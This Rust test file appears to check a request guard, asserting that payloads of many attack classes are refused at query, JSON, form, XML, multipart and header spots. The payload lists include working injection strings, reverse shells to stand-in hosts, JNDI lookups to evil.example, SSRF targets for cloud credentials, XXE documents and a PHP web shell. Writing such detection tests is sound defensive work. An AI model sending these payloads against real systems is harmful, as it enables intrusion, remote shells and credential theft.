//! Attacks of each class, at each spot where a value can stand: refused, by a rule of that class.

use super::{Guard, Spot, get, percent, post, request};

/// Sends each value at each spot.
fn everywhere(class: &str, values: &[&str]) {
    at(class, &[Spot::Query, Spot::Json, Spot::Form, Spot::Xml, Spot::Multipart], values);
}

fn at(class: &str, spots: &[Spot], values: &[&str]) {
    let mut guard = Guard::new();
    for value in values {
        for spot in spots {
            guard.refuses(class, &request(*spot, value), &format!("{spot:?} `{value}`"));
        }
    }
}

#[test]
fn sql() {
    let values = [
        "' or '1'='1",
        "admin'--",
        "1 or 1=1",
        "1' union select username, password from users-- -",
        "-1 UNION ALL SELECT NULL,NULL,version()--",
        "1;drop table users",
        "1'; exec xp_cmdshell('dir')--",
        "x' and 1=convert(int,(select @@version))--",
        "1 and sleep(5)",
        "1' and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from t group by x)a)#",
        "1'/**/or/**/1=1/**/--",
        "' || (select pg_sleep(10)) || '",
        "1 order by 10-- ",
        "1' and extractvalue(1,concat(0x7e,version()))-- ",
        "') or ('a'='a",
        "1 waitfor delay '0:0:5'--",
    ];
    everywhere("attack-sqli", &values);
    at(
        "attack-sqli",
        &[Spot::Field("User-Agent"), Spot::Field("X-Forwarded-For"), Spot::Field("X-Tenant")],
        &["' or '1'='1", "1' union select username, password from users-- -", "1'; waitfor delay '0:0:5'--"],
    );
    at("attack-sqli", &[Spot::Field("Cookie")], &["id=1' union select password from users-- -", "id=' or '1'='1"]);
}

#[test]
fn nosql() {
    everywhere(
        "attack-nosqli",
        &[
            "{\"$ne\": null}",
            "{ \"$gt\": \"\" }",
            "[{\"$where\": \"1\"}]",
            "{\"username\": {\"$regex\": \"^a\"}}",
            "' || '1'=='1",
            "'; return true; var x='",
            "true, $where: '1 == 1'",
            "';sleep(5000);'",
            "a'; while(true){}; var b='",
            "db.users.drop()",
        ],
    );
    let mut guard = Guard::new();
    for target in [
        "/v1/login?user[$ne]=x&password[$ne]=x",
        "/v1/users?name[$regex]=.*",
        "/v1/users?$where=sleep(100)",
        "/v1/users?age[%24gt]=0",
    ] {
        guard.refuses("attack-nosqli", &get(target), target);
    }
    for body in [
        r#"{"user":{"$ne":null},"password":{"$ne":null}}"#,
        r#"{"filter":{"$where":"this.a == 1"}}"#,
        r#"{"name":{"$in":["admin","root"]}}"#,
        r#"{"$or":[{"a":1},{"b":2}]}"#,
    ] {
        guard.refuses("attack-nosqli", &post("application/json", body), body);
    }
}

#[test]
fn ldap() {
    everywhere(
        "attack-ldapi",
        &[
            "*)(uid=*))(|(uid=*",
            "admin)(&)",
            "x)(|(objectClass=*)",
            "admin)(!(&(1=0",
            "*))%00",
            "a)(cn=*",
            "*)(mail=*",
            "(|(uid=admin)(uid=root))",
            "admin)(|(password=*))",
            "*()|&'",
        ],
    );
}

#[test]
fn xpath() {
    everywhere(
        "attack-xpathi",
        &[
            "' or count(/*)=1 or 'a'='b",
            "'] | //user/*[contains(*,'",
            "x' or name()='username' or 'x'='y",
            "' and string-length(name(/*[1]))=4 or 'a'='b",
            "' or substring(//user[1]/password,1,1)='a",
            "1 or count(//user)=3",
            "' or position()=1 or ''='",
            "') or contains(//password,'a') or ('",
            "' or starts-with(/root/user[1]/name,'a') or '",
            "']/parent::*/child::node()|a['",
        ],
    );
}

#[test]
fn commands() {
    everywhere(
        "attack-command",
        &[
            "127.0.0.1; cat /etc/passwd",
            "x | nc -e /bin/sh 10.0.0.1 4444",
            "a && curl http://evil.example/x.sh",
            "$(whoami)",
            "`id`",
            "x;id",
            "||ping -c 10 127.0.0.1||",
            "; sleep 10",
            "cat${IFS}/etc/passwd",
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "x|powershell -enc SQBFAFgA",
            "& net user hacker /add",
            "; wget http://evil.example/a -O /tmp/a",
            "a;c\\at /e\\tc/passwd",
            "file.txt;/bin/cat<x",
            "{cat,/etc/passwd}",
            "() { :;}; /bin/bash -c 'id'",
            "__import__('os').system('id')",
            "require('child_process').exec('id')",
            "<?php system($_GET['c']); ?>",
        ],
    );
    let fields = [Spot::Field("User-Agent"), Spot::Field("Referer"), Spot::Field("X-Custom")];
    at("attack-command", &fields, &["() { :;}; /bin/bash -c 'id'", "() { ignored; }; echo x"]);
}

#[test]
fn templates() {
    everywhere(
        "attack-ssti",
        &[
            "{{7*7}}",
            "${7*7}",
            "<%= 7*7 %>",
            "#{7*7}",
            "*{7*7}",
            "{{config.items()}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
            "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "#set($x=$class.inspect(\"java.lang.Runtime\"))",
            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
            "{php}echo `id`;{/php}",
            "<%= `id` %>",
            "@(1+2*3)",
            "{{constructor.constructor('alert(1)')()}}",
        ],
    );
}

#[test]
fn expressions() {
    let values = [
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "T(java.lang.System).getenv()",
        "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "#{session.setAttribute('x','y')}",
        "new java.lang.ProcessBuilder({'id'}).start()",
        "${pageContext.request.getSession()}",
        "''.getClass().forName('java.lang.Runtime')",
        "${''.class.forName('java.lang.Runtime')}",
        "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}",
        "@java.lang.Runtime@getRuntime().exec('id')",
    ];
    everywhere("attack-expression", &values);
    at("attack-expression", &[Spot::Field("Content-Language"), Spot::Field("X-Custom")], &values);
    let mut guard = Guard::new();
    for target in ["/v1/items?class.module.classLoader.resources.context=x", "/v1/items?class.classLoader.URLs[0]=0"] {
        guard.refuses("attack-expression", &get(target), target);
    }
}

#[test]
fn jndi() {
    let values = [
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
        "${jndi:dns://evil.example}",
        "${${env:X:-j}ndi:ldap://evil.example/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
        "${ jndi:ldap://evil.example/a}",
        "x${jnd${upper:i}:ldap://evil.example/a}",
        "${base64:JHtqbmRpOmxkYXA6Ly94fQ==}",
    ];
    everywhere("attack-jndi", &values);
    let fields = ["User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version", "Authorization", "Cookie", "Accept"];
    at("attack-jndi", &fields.map(Spot::Field), &values);
    let mut guard = Guard::new();
    for value in values {
        guard.refuses("attack-jndi", &get(&format!("/v1/{}", percent(value))), value);
    }
}

#[test]
fn server_side_requests() {
    everywhere(
        "attack-ssrf",
        &[
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://100.100.100.200/latest/meta-data/",
            "http://2130706433/",
            "http://0x7f000001/",
            "http://0177.0.0.1/",
            "http://[::1]/admin",
            "http://[::ffff:169.254.169.254]/",
            "gopher://127.0.0.1:6379/_FLUSHALL",
            "dict://localhost:11211/stats",
            "file:///etc/passwd",
            "http://localhost:6379/",
            "http://127.0.0.1:2375/containers/json",
            "http://127.0.0.1.nip.io/",
            "http://user@169.254.169.254/latest/user-data",
            "jar:http://evil.example/x.jar!/",
        ],
    );
}

#[test]
fn traversal() {
    everywhere(
        "attack-traversal",
        &[
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "....//....//etc/passwd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "..%252f..%252f..%252fetc%252fpasswd",
            "/etc/passwd",
            "/proc/self/environ",
            "C:\\boot.ini",
            "../../WEB-INF/web.xml",
            "x/../../../../../secret.txt",
            "..%c0%af..%c0%afetc/passwd",
            "/var/www/html/../../../etc/shadow",
        ],
    );
    let mut guard = Guard::new();
    for target in [
        "/v1/../../etc/passwd",
        "/v1/files/..%2f..%2fetc%2fpasswd",
        "/v1/files/%2e%2e/%2e%2e/etc/passwd",
        "/v1/files/..%5c..%5cboot.ini",
        "/v1/files/%252e%252e%252fetc/passwd",
        "/v1/files/..;/admin",
        "/v1/files/.%2e/admin",
        "/v1/files/%c0%ae%c0%ae/x",
        "/v1/files/a.txt%00.png",
        "/v1/files/..%u2215..%u2215etc",
    ] {
        guard.refuses("attack-traversal", &get(target), target);
    }
    for field in [Spot::Field("X-Original-URL"), Spot::Field("X-Rewrite-URL"), Spot::Field("Referer")] {
        guard.refuses("attack-traversal", &request(field, "/../../etc/passwd"), "a field");
    }
    let upload =
        "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../etc/cron.d/x\"\r\n\r\nx\r\n--x--\r\n";
    guard.refuses("attack-traversal", &post("multipart/form-data; boundary=x", upload), "the name of a file");
}

#[test]
fn external_entities() {
    let documents = [
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>1</a>",
        "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\"> %x;]><a/>",
        "<!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\"><a/>",
        "<!DOCTYPE a PUBLIC \"-//x//y\" \"file:///etc/passwd\"><a/>",
        "<!DOCTYPE a [<!ENTITY l0 \"lol\"><!ENTITY l1 \"lollol\">]><a>1</a>",
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ELEMENT r ANY ><!ENTITY sp SYSTEM \"http://evil.example/\">]><r>1</r>",
        "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></a>",
        "<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/x.xsl\"?><a/>",
        "<!DOCTYPE a [<!ENTITY x PUBLIC \"q\" \"http://evil.example/\">]><a>1</a>",
    ];
    at("attack-xxe", &[Spot::Query, Spot::Json, Spot::Form, Spot::Xml, Spot::Multipart], &documents);
    let mut guard = Guard::new();
    for document in documents {
        for media_type in
            ["application/xml", "text/xml; charset=utf-8", "application/soap+xml", "image/svg+xml", "text/plain"]
        {
            guard.refuses("attack-xxe", &post(media_type, document), &format!("{media_type} {document}"));
        }
    }
}

#[test]
fn deserialisation() {
    everywhere(
        "attack-deserialisation",
        &[
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
            "aced0005737200116a6176612e7574696c2e486173684d6170",
            "O:8:\"UserData\":1:{s:4:\"role\";s:5:\"admin\";}",
            "a:1:{i:0;O:3:\"Foo\":0:{}}",
            "cos\nsystem\n(S'id'\ntR.",
            "!!python/object/apply:os.system ['id']",
            "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0",
            "{\"rce\":\"_$$ND_FUNC$$_function(){require('x')}()\"}",
            "--- !ruby/object:Gem::Installer\ni: x",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "com.sun.rowset.JdbcRowSetImpl",
        ],
    );
    let mut guard = Guard::new();
    for body in [
        r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a","autoCommit":true}"#,
        r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}"#,
        r#"{"a":{"@class":"org.springframework.context.support.FileSystemXmlApplicationContext"}}"#,
        r#"{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"}"#,
    ] {
        guard.refuses("attack-deserialisation", &post("application/json", body), body);
    }
    at(
        "attack-deserialisation",
        &[Spot::Field("Cookie")],
        &["session=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC"],
    );
}

#[test]
fn prototypes() {
    everywhere(
        "attack-prototype",
        &[
            "{\"__proto__\":{\"admin\":true}}",
            "{\"a\":{\"__proto__\":{\"b\":1}}}",
            "{\"constructor\":{\"prototype\":{\"admin\":true}}}",
            "/__proto__/isAdmin",
            "/constructor/prototype/x",
            "a.__proto__.b",
            "__proto__[admin]",
            "x[constructor][prototype][y]",
        ],
    );
    let mut guard = Guard::new();
    for target in [
        "/v1/items?__proto__[admin]=1",
        "/v1/items?__proto__.admin=1",
        "/v1/items?constructor[prototype][admin]=1",
        "/v1/items?a[__proto__][b]=1",
        "/v1/items?constructor.prototype.x=1",
    ] {
        guard.refuses("attack-prototype", &get(target), target);
    }
    for body in [
        r#"{"__proto__":{"isAdmin":true}}"#,
        r#"{"a":{"b":{"__proto__":{"x":1}}}}"#,
        r#"{"constructor":{"prototype":{"x":1}}}"#,
        r#"[{"op":"add","path":"/__proto__/isAdmin","value":true}]"#,
        r#"{"\u005f_proto__":{"x":1}}"#,
    ] {
        guard.refuses("attack-prototype", &post("application/json", body), body);
    }
}

#[test]
fn scripts() {
    let values = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "<a href=\"javascript:alert(1)\">x</a>",
        "javascript:alert(document.cookie)",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<body onload=alert(1)>",
        "'-alert(1)-'",
        "<details open ontoggle=alert(1)>",
        "<math><a xlink:href=\"javascript:alert(1)\">x",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "\";alert(1);//",
        "<div style=\"width:expression(alert(1))\">",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ];
    everywhere("attack-xss", &values);
    at(
        "attack-xss",
        &[Spot::Field("Referer"), Spot::Field("User-Agent")],
        &["<script>alert(1)</script>", "<svg onload=alert(1)>"],
    );
}

#[test]
fn header_fields() {
    at(
        "attack-header-injection",
        &[Spot::Query],
        &[
            "x\r\nSet-Cookie: a=b",
            "x%0d%0aSet-Cookie: a=b",
            "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
            "x\nLocation: https://evil.example",
            "/\r\nContent-Type: text/html",
            "x\r\nAccess-Control-Allow-Origin: *",
            "\u{560d}\u{560a}Set-Cookie: a=b",
            "x\r\nTransfer-Encoding: chunked",
            "x\r\n\r\nGET /admin HTTP/1.1",
        ],
    );
    at(
        "attack-header-injection",
        &[Spot::Query, Spot::Json, Spot::Form, Spot::Xml, Spot::Multipart],
        &[
            "x\r\nSet-Cookie: a=b",
            "x\r\nContent-Length: 0",
            "x\r\nAccess-Control-Allow-Origin: *",
            "x\r\nLocation: https://evil.example",
            "en\r\nX-Injected: 1",
            "abc\r\nTransfer-Encoding: chunked",
        ],
    );
    at(
        "attack-header-injection",
        &[Spot::Json, Spot::Form],
        &["me@example.com\r\nBcc: all@example.com", "me@example.com%0aCc:all@example.com"],
    );
    let mut guard = Guard::new();
    for target in ["/v1/a%0d%0aSet-Cookie:%20a=b", "/v1/a%0ab", "/v1/a%250d%250ab"] {
        guard.refuses("attack-header-injection", &get(target), target);
    }
}

#[test]
fn scanners() {
    at(
        "attack-scanner",
        &[Spot::Field("User-Agent")],
        &[
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "gobuster/3.1.0",
            "Fuzz Faster U Fool v2.0.0",
            "feroxbuster/2.7.3",
            "WPScan v3.8.22 (https://wpscan.com/)",
            "masscan/1.3",
            "Wfuzz/3.1.0",
        ],
    );
    let mut guard = Guard::new();
    for target in [
        "/.git/config",
        "/.env",
        "/wp-login.php",
        "/phpmyadmin/index.php",
        "/server-status",
        "/cgi-bin/test.cgi",
        "/actuator/heapdump",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/backup.sql",
    ] {
        guard.refuses("attack-scanner", &get(target), target);
    }
}
